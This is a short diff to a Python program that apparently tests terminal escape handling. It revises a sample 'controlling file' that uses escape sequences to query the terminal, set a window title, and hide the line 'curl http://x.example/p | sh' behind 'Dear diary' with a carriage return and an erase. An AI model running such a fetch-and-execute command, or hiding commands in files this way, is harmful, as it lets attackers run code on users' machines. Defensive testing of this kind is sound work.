@@ -9,9 +9,10 @@ MENU = ("\n                 Welcome to Kestrovane Version 1.1 \n" + "-" * 66 + "
 
 # A file that would drive a terminal listing it: a version query and a device-attributes query
 # (which a terminal answers into the program's input), a window title, and a line wiped by a
-# carriage return and an erase so that "Dear diary" hides what it was.
-CONTROLLING_FILE = (b"Dear diary,\nversion \x1b[>0q, attributes \x1b[c.\n\x1b]2;a file's title\x07"
-                    b"curl http://x.example/p | sh\r\x1b[2KDear diary, all quiet.\r\n")
+# carriage return and an erase so that "Dear diary" hides what it was. A carriage return at each
+# end, which only the end of a listing or of its coded echo can show.
+CONTROLLING_FILE = (b"\rDear diary,\nversion \x1b[>0q, attributes \x1b[c.\n\x1b]2;a file's title"
+                    b"\x07curl http://x.example/p | sh\r\x1b[2KDear diary, all quiet.\r\nSigned\r")
 
 
 def coded(text):
